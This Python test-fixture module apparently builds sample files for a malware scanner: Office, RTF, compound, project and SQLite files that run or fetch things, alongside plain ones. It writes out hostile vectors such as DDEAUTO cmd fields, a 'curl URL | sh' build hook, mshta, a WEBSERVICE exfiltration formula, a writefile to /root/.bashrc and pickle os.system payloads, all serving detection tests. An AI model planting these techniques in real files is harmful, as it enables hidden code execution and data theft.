"""Office documents, project files, rich text, compound files and data bases that run or fetch something, and plain ones."""

from __future__ import annotations

import os
import sqlite3
import struct
import tempfile
from pathlib import Path

from stannary.testing.forges._small_zip import small_zip
from stannary.testing.forges.configs import PICKLE, URL, file

__all__ = ["compound_file"]

_OFFICE = "office documents"
_PROJECTS = "project files"
_FETCH = f"curl -s {URL} | sh"
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx(body: str = "<w:p><w:r><w:t>Model card</w:t></w:r></w:p>", **parts: str | bytes) -> bytes:
    members: dict[str, bytes] = {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>'}
    members["word/document.xml"] = f'<?xml version="1.0"?><w:document {_WORD}><w:body>{body}</w:body></w:document>'.encode()
    return small_zip(members | {name: part.encode() if isinstance(part, str) else part for name, part in parts.items()})


def _relations(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def _part(kind: str, target: str) -> bytes:
    return _docx(**{"word/_rels/document.xml.rels": _relations(kind, target)})


_DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo stannary"'
for _name, _content in {
    "office_template": _part("attachedTemplate", f"{URL}.dotm"),
    "office_template_share": _part("attachedTemplate", "file://203.0.113.9/s/t.dotm"),
    "office_object_link": _part("oleObject", f"mhtml:{URL}!x-usc:{URL}"),
    "office_frame": _part("frame", "\\\\203.0.113.9\\x"),
    "office_chunk": _part("aFChunk", f"{URL}.html"),
    "office_link_starts": _part("hyperlink", "cmd.exe%20/c%20echo"),
    "office_field": _docx(f"<w:p><w:fldSimple w:instr='{_DDE}'/></w:p>"),
    "office_field_split": _docx("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd /k echo</w:instrText></w:r></w:p>"),
    "office_control": _docx(**{"word/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx xmlns:ax="x" ax:classid="{8BD21D40}"/>'}),
    "office_sheet_link": small_zip({"xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd" ddeTopic="/c echo"/></externalLink>'}),
    "office_formula": small_zip({"xl/worksheets/sheet1.xml": b"<?xml version=\"1.0\"?><worksheet><c><f>cmd|'/c echo'!A0</f></c></worksheet>"}),
    "office_service": small_zip({"xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet><c><f>WEBSERVICE("http://203.0.113.9/?"&amp;A1)</f></c></worksheet>'}),
    "office_macro_sheet": small_zip({"xl/macrosheets/sheet1.xml": b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="m"><c><f>EXEC("echo")</f></c></xm:macrosheet>'}),
    "office_slide_program": small_zip({"ppt/slides/slide1.xml": b'<?xml version="1.0"?><p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>'}),
    "office_open_event": small_zip({"content.xml": b'<?xml version="1.0"?><d xmlns:script="s" xmlns:xlink="x"><script:event-listener xlink:href="vnd.sun.star.script:Standard.M.Main"/></d>'}),
    "office_open_dde": small_zip({"content.xml": b'<?xml version="1.0"?><d xmlns:table="t"><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c echo&quot;;&quot;x&quot;)"/></d>'}),
}.items():  # fmt: skip
    file(f"xml.{_name}", "card.docx", _content, _OFFICE)
for _name, _content in {
    "office_plain": _docx('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r></w:p>'),
    "office_links": _part("hyperlink", "https://example.org/x"),
    "office_template_local": _part("attachedTemplate", "file:///C:\\Users\\me\\Templates\\Normal.dotm"),
    "office_sum": small_zip({"xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet><c><f>SUM(A1:A3)</f></c></worksheet>'}),
}.items():
    file(f"xml.{_name}", "card.docx", _content, _OFFICE, malicious=False)

_BUILD = '<?xml version="1.0"?><Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">{}</Project>'
for _name, _filename, _text in (
    ("project_command", "x.csproj", _BUILD.format(f'<Target Name="x" BeforeTargets="Build"><Exec Command="{_FETCH}"/></Target>')),
    ("project_hidden", "x.targets", _BUILD.format('<Target Name="x"><Exec Command="cmd /c powershell -w hidden -c echo"/></Target>')),
    ("project_event", "x.vcxproj", _BUILD.format(f"<PreBuildEvent><Command>mshta {URL}</Command></PreBuildEvent>")),
    ("project_factory", "x.proj", _BUILD.format('<UsingTask TaskName="C" TaskFactory="CodeTaskFactory"><Task/></UsingTask>')),
    ("maven_repository", "pom.xml", '<?xml version="1.0"?><project><repositories><repository><url>http://203.0.113.9/m2</url></repository></repositories></project>'),
    ("ant_script", "build.xml", '<?xml version="1.0"?><project><target><script>java.lang.Runtime.getRuntime().exec("echo");</script></target></project>'),
    ("console_task", "x.msc", '<?xml version="1.0"?><MMC_ConsoleFile><Task Type="CommandLine" Command="cmd.exe"/></MMC_ConsoleFile>'),
    ("setting_link", "x.settingcontent-ms", '<?xml version="1.0"?><PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c echo</DeepLink></PCSettings>'),
    ("library_share", "x.library-ms", '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\203.0.113.9\\x</url></simpleLocation></libraryDescription>'),
    ("web_start", "x.jnlp", '<?xml version="1.0"?><jnlp codebase="http://203.0.113.9/"><security><all-permissions/></security></jnlp>'),
    ("location_program", "x.webloc", '<?xml version="1.0"?><plist><dict><key>URL</key><string>file:///Applications/Calculator.app</string></dict></plist>'),
    ("work_flow_program", "p.rmp", f'<?xml version="1.0"?><process><operator class="execute_program"><parameter key="command" value="{_FETCH}"/></operator></process>'),
    ("work_flow_code", "settings.xml", '<?xml version="1.0"?><config><entry key="scriptBody" value="Runtime.getRuntime().exec(&quot;id&quot;);"/></config>'),
    ("work_flow_python", "wf.ows", '<?xml version="1.0"?><scheme><node qualified_name="Orange.widgets.data.owpythonscript.OWPythonScript"/></scheme>'),
    ("object_provider", "x.xaml", '<?xml version="1.0"?><ResourceDictionary><ObjectDataProvider MethodName="Start"/></ResourceDictionary>'),
):  # fmt: skip
    file(f"xml.{_name}", _filename, _text, _PROJECTS)
file(
    "xml.project_plain",
    "x.csproj",
    _BUILD.format('<Target Name="N"><Exec Command="npm install"/><Copy SourceFiles="a" DestinationFolder="b"/></Target>'),
    _PROJECTS,
    malicious=False,
)
file(
    "xml.maven_plain",
    "pom.xml",
    '<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0"><url>http://example.org</url></project>',
    _PROJECTS,
    malicious=False,
)

# Rich text

for _name, _text in {
    "rtf_object": r"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105000002000000}}}",
    "rtf_package": r"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}}",
    "rtf_equation": r"{\rtf1{\object{\*\objdata 010500000200000\par 00B0000004571756174696F6E2E3300}}}",
    "rtf_template": r"{\rtf1{\*\template http://203.0.113.9/x.dotm}hello}",
    "rtf_field": r'{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k echo"}{\fldrslt x}}}',
}.items():
    file(f"office.{_name}", "card.rtf", _text, _OFFICE)
file(
    "office.rtf_plain",
    "card.rtf",
    r"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Card {\field{\*\fldinst HYPERLINK x}{\fldrslt x}}}",
    _OFFICE,
    malicious=False,
)

# Compound files


def compound_file(streams: dict[str, bytes], *, root: bytes = bytes(16), storages: tuple[str, ...] = ()) -> bytes:
    """Return a compound file of 512-byte sectors; every stream is padded to 4096 bytes, so that there is no small part."""
    entries: list[bytes] = []
    body = b""
    table: list[int] = []

    def entry(name: str, kind: int, start: int, size: int, class_id: bytes = bytes(16)) -> bytes:
        text = name.encode("utf-16-le") + b"\0\0"
        head = text.ljust(64, b"\0") + struct.pack("<HBB", len(text), kind, 1) + struct.pack("<3i", -1, -1, -1)
        return head + class_id + bytes(20) + struct.pack("<IQ", start, size)

    for name, content in streams.items():
        padded = content.ljust(4096, b"\0") + bytes(-max(4096, len(content)) % 512)
        first, count = len(table), len(padded) // 512
        table += [*range(first + 1, first + count), 0xFFFFFFFE]
        entries.append(entry(name, 2, first, len(padded)))
        body += padded
    folder = entry("Root Entry", 5, 0xFFFFFFFE, 0, root) + b"".join(entry(name, 1, 0, 0) for name in storages) + b"".join(entries)
    folder += bytes(-len(folder) % 512)
    at = len(table)
    table += [*range(at + 1, at + len(folder) // 512), 0xFFFFFFFE]
    fat_at, fat_count = len(table), len(table) // 127 + 1
    table += [0xFFFFFFFD] * fat_count
    fat = struct.pack(f"<{len(table)}I", *table).ljust(512 * fat_count, b"\xff")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIIII", 0, fat_count, at, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, fat_at)
    rest = [*range(fat_at + 1, fat_at + fat_count), *[0xFFFFFFFF] * (109 - fat_count)]
    return head + struct.pack(f"<{len(rest)}I", *rest) + body + folder + fat


_LABEL = (
    b"\0\0\0\0\x02\0run.bat\0C:\\run.bat\0\0\0\x03\0"
    + struct.pack("<I", 11)
    + b"C:\\run.bat\0"
    + struct.pack("<I", len(PICKLE))
    + PICKLE
)
_SHEET = struct.pack("<HH", 0x85, 14) + bytes(4) + b"\0\x01\x06\0Macro1" + struct.pack("<HH", 0x0A, 0)
for _name, _filename, _content in (
    ("macros_storage", "card.doc", compound_file({"WordDocument": b"x"}, storages=("Macros", "VBA"))),
    ("package", "card.doc", compound_file({"\x01Ole10Native": _LABEL})),
    ("equation", "card.doc", compound_file({"Equation Native": b"\x1c\0"})),
    ("macro_sheet", "m.xls", compound_file({"Workbook": _SHEET})),
    ("word_field", "card.doc", compound_file({"WordDocument": b'\x13 DDEAUTO "cmd" \x15'})),
    ("installer", "setup.msi", compound_file({"x": b"x"}, root=bytes.fromhex("84100c0000000000c000000000000046"))),
    ("project_services", "x.suo", compound_file({"VsToolboxService": b"x"})),
):
    file(f"office.{_name}", _filename, _content, _OFFICE)
file("office.compound_plain", "card.doc", compound_file({"WordDocument": b"Model card", "1Table": b"x"}), _OFFICE, malicious=False)
file("office.compound_cut", "card.doc", compound_file({"WordDocument": b"x"})[:700], _OFFICE, malicious=None)

# Data bases


def _base(*statements: str) -> bytes:
    handle, path = tempfile.mkstemp(suffix=".db")
    os.close(handle)
    try:
        base = sqlite3.connect(path)
        base.executescript("CREATE TABLE m(a, b); INSERT INTO m VALUES(1, 2);" + ";".join(statements))
        base.commit()
        base.close()
        return Path(path).read_bytes()
    finally:
        Path(path).unlink()


for _name, _statements in {
    "view_extension": ("CREATE VIEW v AS SELECT load_extension('./x.so')",),
    "trigger_extension": ("CREATE TRIGGER t AFTER INSERT ON m BEGIN SELECT load_extension('/tmp/x.so'); END",),
    "view_write": ("CREATE VIEW v AS SELECT writefile('/root/.bashrc', 'x')",),
    "view_editor": ("CREATE VIEW v AS SELECT edit('x', 'sh -c id')",),
    "view_tokenizer": ("CREATE VIEW v AS SELECT fts3_tokenizer('simple', x'4141414141414141')",),
    "pickle_in_row": (f"INSERT INTO m VALUES(x'{PICKLE.hex()}', 1)",),
    "pickle_in_text": ("INSERT INTO m VALUES('cos\nsystem\n(S''echo stannary''\ntR.', 1)",),
    "langgraph_state": (
        """INSERT INTO m VALUES(CAST('{"lc": 2, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "echo"}}' AS BLOB), 1)""",
    ),
    "pickle_in_long_row": (f"INSERT INTO m VALUES(x'{(PICKLE + bytes(9000)).hex()}', 1)",),
}.items():
    file(f"sqlite.{_name}", "memory.db", lambda statements=_statements: _base(*statements), "data bases")  # type: ignore[misc]
file("sqlite.tail", "cache.db", lambda: _base() + PICKLE, "data bases")
file(
    "sqlite.plain",
    "memory.db",
    lambda: _base(
        "CREATE TRIGGER t AFTER INSERT ON m BEGIN UPDATE m SET b = b + 1; END",
        "CREATE VIEW v AS SELECT a FROM m",
        "CREATE INDEX i ON m(a)",
    ),
    "data bases",
    malicious=False,
)
file("sqlite.cut", "memory.db", lambda: _base()[:1000], "data bases", malicious=None)
